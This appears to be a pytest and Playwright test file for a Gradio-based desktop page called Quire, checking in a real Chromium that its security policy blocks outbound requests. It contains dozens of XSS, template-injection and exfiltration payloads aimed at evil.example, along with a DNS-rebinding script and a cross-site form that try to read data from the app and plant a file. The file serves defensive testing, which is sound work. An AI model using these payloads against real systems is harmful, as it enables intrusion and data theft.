"""The page in a real Chromium: that it works under the policy, and that nothing gets out of it."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

from desktop.web import PageServer
from tests.desktop.page import SERVER_WORD, small_page

pytestmark = [
    pytest.mark.screen,
    # Gradio's queue sets an option of pandas that pandas wants to drop.
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting' is deprecated"),
]

CHROMIUM = Path("/usr/bin/chromium")
QUIET = (
    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-sync",
    "--disable-component-update", "--no-first-run", "--no-pings", "--disable-dev-shm-usage",
    "--disable-features=AutofillServerCommunication,OptimizationHints,MediaRouter,Translate",
)  # fmt: skip


class Elsewhere:
    """A server of somebody else's. Every name in the world leads to it; it counts who comes."""

    def __init__(self) -> None:
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listening.getsockname()[1]
        self.came: list[bytes] = []
        self.page = b""
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                line, _ = self._listening.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(line,), daemon=True).start()

    def _answer(self, line: socket.socket) -> None:
        with line:
            line.settimeout(5)
            try:
                said = line.recv(65536)
                self.came.append(said.split(b"\r\n")[0])
                length = str(len(self.page)).encode()
                head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                line.sendall(head + b"Content-Length: " + length + b"\r\n\r\n" + self.page)
            except OSError:
                self.came.append(b"hung up")

    def close(self) -> None:
        self._listening.close()


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.close()


@pytest.fixture(scope="module")
def browser(elsewhere: Elsewhere) -> Iterator[Browser]:
    if not CHROMIUM.exists():
        pytest.skip("no Chromium is installed")
    # What the browser asks its own makers is no page's doing.
    makers = "MAP *.google.com ~NOTFOUND, MAP *.googleapis.com ~NOTFOUND"
    everyone = f"MAP * 127.0.0.1:{elsewhere.port}, EXCLUDE 127.0.0.1"
    everywhere = f"--host-resolver-rules={makers}, {everyone}"
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=[*QUIET, everywhere]
        )
        yield chromium
        chromium.close()


@pytest.fixture
def context(browser: Browser, elsewhere: Elsewhere) -> Iterator[BrowserContext]:
    fresh = browser.new_context()
    elsewhere.came.clear()
    yield fresh
    fresh.close()


class Watched:
    """A page, and all that it complains of."""

    def __init__(self, context: BrowserContext, address: str) -> None:
        self.complaints: list[str] = []
        self.asked: list[str] = []
        self.page: Page = context.new_page()
        self.page.on("console", self._hear)
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        # A request that the policy stops is announced all the same, but never finishes.
        self.page.on("requestfinished", lambda request: self.asked.append(request.url))
        self.page.on("response", lambda response: self.asked.append(response.url))
        self.page.goto(address)
        self.page.wait_for_selector("#lane")

    def _hear(self, message: Any) -> None:
        if message.type == "error":
            self.complaints.append(message.text)

    def shown(self, label: str, text: str) -> None:
        expect(self.page.get_by_label(label)).to_have_value(text)


def _serve(folder: Path, answer: str = "an answer") -> tuple[PageServer, str]:
    uploads = folder / "uploads"
    server = PageServer(small_page(uploads, answer), uploads)
    return server, server.start()


# ── it works ───────────────────────────────────────────────────────────────────────────────


def test_the_page_does_all_that_it_should_under_the_policy(
    context: BrowserContext, tmp_path: Path
) -> None:
    server, address = _serve(tmp_path)
    watched = Watched(context, address)
    page = watched.page
    page.get_by_label("Question").fill("Who was it?")
    page.get_by_role("button", name="Ask").click()
    watched.shown("Told", "Who was it?")
    page.get_by_role("button", name="Shout").click()
    watched.shown("Told", "WHO WAS IT?")
    page.locator("input[type=file]").first.set_input_files(
        {"name": "a.pdf", "mimeType": "application/pdf", "buffer": b"%PDF-1.4"}
    )
    watched.shown("Listed", "a.pdf")
    page.click("#call")
    expect(page.locator("#back")).to_have_text(f"{SERVER_WORD}: hello")
    page.get_by_role("button", name="Show").click()
    expect(page.locator("#lane")).to_have_text("an answer")
    expect(page.locator("#lane")).to_have_css("color", "rgb(1, 2, 3)")
    server.stop()
    about_braces = [text for text in watched.complaints if "did not come with the page" in text]
    assert (set(watched.complaints) - set(about_braces), bool(about_braces)) == (set(), True)
    assert not [url for url in watched.asked if not url.startswith(address.split("/?")[0])]


def test_the_address_shows_no_token_and_the_browser_keeps_no_words(
    context: BrowserContext, tmp_path: Path
) -> None:
    server, address = _serve(tmp_path)
    watched = Watched(context, address)
    watched.page.get_by_label("Question").fill("a secret question")
    watched.page.get_by_role("button", name="Ask").click()
    watched.shown("Told", "a secret question")
    watched.page.get_by_role("button", name="Show").click()
    watched.page.wait_for_timeout(500)
    kept = watched.page.evaluate(
        "async () => JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage),"
        " await indexedDB.databases(), await caches.keys(), document.cookie])"
    )
    where, title = watched.page.url, watched.page.title()
    server.stop()
    assert (where, title) == (f"http://127.0.0.1:{server.port}/", "Quire")
    assert kept == '[[],[],[],[],""]'


# ── nothing gets out ───────────────────────────────────────────────────────────────────────

OUT = "http://evil.example"
HOSTILE_TAGS = f"""
<img src="{OUT}/1"> <img srcset="{OUT}/2 1x"> <img src=x onerror="fetch('{OUT}/3')">
<script>fetch('{OUT}/4')</script> <script src="{OUT}/5"></script> <iframe src="{OUT}/6"></iframe>
<iframe srcdoc="<img src='{OUT}/7'>"></iframe> <object data="{OUT}/8"></object>
<embed src="{OUT}/9"> <video src="{OUT}/10" autoplay></video> <video poster="{OUT}/11"></video>
<audio src="{OUT}/12" autoplay></audio> <link rel="stylesheet" href="{OUT}/13">
<link rel="prefetch" href="{OUT}/14"> <link rel="preconnect" href="{OUT}">
<link rel="dns-prefetch" href="//evil.example"> <link rel="modulepreload" href="{OUT}/15">
<style>@import url({OUT}/16);</style> <p style="background:url({OUT}/17)">x</p>
<style>@font-face {{ font-family: f; src: url({OUT}/18) }} p {{ font-family: f }}</style>
<svg><image href="{OUT}/19" /></svg> <svg onload="fetch('{OUT}/20')"></svg>
<svg><use href="{OUT}/21#a"></use></svg> <svg><script>fetch('{OUT}/22')</script></svg>
<input type="image" src="{OUT}/23"> <body background="{OUT}/24"> <table background="{OUT}/25">
<math><mtext href="{OUT}/26">x</mtext></math> <details open ontoggle="fetch('{OUT}/27')"></details>
<input autofocus onfocus="fetch('{OUT}/28')"> <picture><source srcset="{OUT}/29"><img></picture>
<track src="{OUT}/30"> <meta http-equiv="refresh" content="0;url={OUT}/31"> <base href="{OUT}/">
<a href="{OUT}/32" ping="{OUT}/33">x</a> <gradio-app src="{OUT}/34"></gradio-app>
<a href="javascript:fetch('{OUT}/35')">x</a> <marquee onstart="fetch('{OUT}/36')">x</marquee>
<style>p::after {{ content: url({OUT}/37) }}</style> <svg><feImage href="{OUT}/38" /></svg>
<portal src="{OUT}/39"></portal> <applet code="{OUT}/40"></applet> <frameset><frame src="{OUT}/41">
<form action="{OUT}/42"><button>x</button></form> <video><source src="{OUT}/43"></video>
<link rel="icon" href="{OUT}/44"> <link rel="manifest" href="{OUT}/45">
<svg><animate attributeName="href" values="{OUT}/46" /></svg> <image src="{OUT}/47">
<p style="list-style-image:url({OUT}/48)">x</p> <p style="cursor:url({OUT}/49),auto">x</p>
<object type="image/svg+xml" data="data:image/svg+xml,<svg onload='fetch(&quot;{OUT}/50&quot;)'/>">
""".replace("> <", ">\n<").splitlines()  # fmt: skip
HOSTILE_WORDS = [
    f"![x]({OUT}/60)", f"[x]: {OUT}/61\n![y][x]", f"<img/src={OUT}/62>", "![x](//evil.example/63)",
    "${fetch('" + OUT + "/64')}", "{{constructor.constructor('fetch(\"" + OUT + "/65\")')()}}",
    "`+fetch('" + OUT + "/66')+`", "\\`;fetch('" + OUT + "/67')//", "${alert`1`}",
    f"$$\\includegraphics{{{OUT}/68}}$$", f"$\\href{{{OUT}/69}}{{x}}$", f"\\url{{{OUT}/70}}",
    f"```mermaid\ngraph TD; A[<img src={OUT}/71>]\n```", f"```html\n<img src={OUT}/72>\n```",
    f"<![CDATA[<img src={OUT}/73>]]>", f"<!--><img src={OUT}/74>-->", f"<x{{<img src={OUT}/75>",
    "</textarea></script><img src=" + OUT + "/76>", f"<noscript><img src={OUT}/77></noscript>",
    f"<template><img src={OUT}/78></template>", f"<math><style><img src={OUT}/79></style></math>",
    f"<svg></p><style><a id=\"</style><img src={OUT}/80>\">", f"<{OUT}/81>", f"{OUT}/82",
    f"[x](javascript:fetch('{OUT}/83'))", f"[x](data:text/html,<script>fetch('{OUT}/84')</script>)",
    "<img src=\"/gradio_api/file=" + OUT + "/85\">", f"![x](/gradio_api/file={OUT}/86)",
    "<img src=\"/gradio_api/proxy=" + OUT + "/87\">", f"<audio controls src={OUT}/88>",
]  # fmt: skip
EVENTS = ("load", "error", "animationstart", "transitionrun", "toggle", "focusin", "pointerover",
          "mouseover", "scroll", "beforetoggle", "loadstart", "canplay", "resize", "pageshow",
          "hashchange", "message", "securitypolicyviolation", "contentvisibilityautostatechange",
          "cuechange", "afterscriptexecute")  # fmt: skip
HOSTILE_EVENTS = [
    f"<{tag} src=x tabindex=0 autofocus on{event}=\"location='{OUT}/{event}'\">x</{tag}>"
    for event in EVENTS
    for tag in ("img", "video", "p")
]
HOSTILE = [*HOSTILE_TAGS, *HOSTILE_WORDS, *HOSTILE_EVENTS]


@pytest.mark.parametrize("together", [0, 1, 2, 3])
def test_no_hostile_answer_reaches_another_host(
    context: BrowserContext, elsewhere: Elsewhere, tmp_path: Path, together: int
) -> None:
    some = HOSTILE[together::4]
    for answer in ("\n".join(some), "\n\n".join(reversed(some))):
        server, address = _serve(tmp_path, answer)
        watched = Watched(context, address)
        watched.page.get_by_role("button", name="Show").click()
        watched.page.wait_for_timeout(1500)
        where = watched.page.url
        server.stop()
        watched.page.close()
        assert where == f"http://127.0.0.1:{server.port}/"
        own = f"http://127.0.0.1:{server.port}/"
        outside = [url for url in watched.asked if not url.startswith((own, "data:", "blob:"))]
        assert (elsewhere.came, outside) == ([], [])


def test_without_the_policy_such_an_answer_would_reach_it(
    context: BrowserContext, elsewhere: Elsewhere
) -> None:
    page = context.new_page()
    page.set_content("\n".join(HOSTILE_TAGS))
    page.wait_for_timeout(1000)
    assert len(elsewhere.came) > 5


# ── other pages ────────────────────────────────────────────────────────────────────────────


def _steal(port: int) -> bytes:
    """A page that was served under its own name, which now leads to us: DNS rebinding."""
    script = f"""
      const read = async () => {{
        let bytes = 0;
        for (const path of ["/", "/config", "/gradio_api/info", "/theme.css", "/favicon.ico"])
          for (const host of ["evil.example", "127.0.0.1", "localhost"])
            for (const mode of ["cors", "no-cors", "same-origin"]) try {{
              const reply = await fetch(`http://${{host}}:{port}${{path}}`,
                                        {{ mode, credentials: "include" }});
              if (reply.ok) bytes += (await reply.arrayBuffer()).byteLength;
            }} catch {{}}
        return bytes;
      }};
      const send = async () => {{
        const form = new FormData();
        form.append("files", new Blob(["planted"]), "planted.pdf");
        for (const host of ["evil.example", "127.0.0.1", "localhost"]) try {{
          await fetch(`http://${{host}}:{port}/gradio_api/upload`,
                      {{ method: "POST", body: form, mode: "no-cors", credentials: "include" }});
        }} catch {{}}
      }};
      (async () => {{ await send(); document.title = "read " + await read(); }})();
    """
    return f"<!doctype html><title>wait</title><script>{script}</script>".encode()


def test_a_page_whose_name_was_bent_to_us_reads_and_writes_nothing(
    browser: Browser, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    server, address = _serve(tmp_path)
    bent = f"--host-resolver-rules=MAP evil.example:{server.port} 127.0.0.1:{server.port}"
    bent += f", MAP evil.example 127.0.0.1:{elsewhere.port}"
    elsewhere.page = _steal(server.port)
    other = browser.browser_type.launch(executable_path=str(CHROMIUM), args=[*QUIET, bent])
    context = other.new_context()
    Watched(context, address).page.close()  # the person is let in, in this same browser
    page = context.new_page()
    page.goto(OUT)
    page.wait_for_function("document.title !== 'wait'", timeout=20_000)
    title = page.title()
    page.goto(f"http://evil.example:{server.port}/")
    refused = page.inner_text("body")
    other.close()
    planted = list((tmp_path / "uploads").rglob("planted*"))
    server.stop()
    elsewhere.page = b""
    assert (title, planted) == ("read 0", [])
    assert refused == "Quire's page makes no such request."


def test_a_form_and_a_frame_of_another_page_get_nothing(
    context: BrowserContext, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    server, address = _serve(tmp_path)
    Watched(context, address).page.close()
    target = f"http://127.0.0.1:{server.port}"
    elsewhere.page = (
        f'<iframe src="{target}/"></iframe>'
        f'<form action="{target}/gradio_api/upload" method="post" enctype="multipart/form-data">'
        '<textarea name="files">planted</textarea></form>'
        "<script>setTimeout(() => document.forms[0].submit(), 500)</script>"
    ).encode()
    page = context.new_page()
    page.goto(OUT)
    page.wait_for_url(f"{target}/gradio_api/upload")
    planted = [path for path in (tmp_path / "uploads").rglob("*") if path.is_file()]
    said = page.inner_text("body")
    server.stop()
    elsewhere.page = b""
    assert (planted, said) == ([], "Quire's page makes no such request.")


def test_the_person_who_follows_the_address_from_elsewhere_comes_in(
    context: BrowserContext, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    server, address = _serve(tmp_path)
    elsewhere.page = f'<a href="{address}">Quire</a>'.encode()
    page = context.new_page()
    page.goto(OUT)
    page.click("a")
    page.wait_for_selector("#lane")
    where = page.url
    server.stop()
    elsewhere.page = b""
    assert where == f"http://127.0.0.1:{server.port}/"
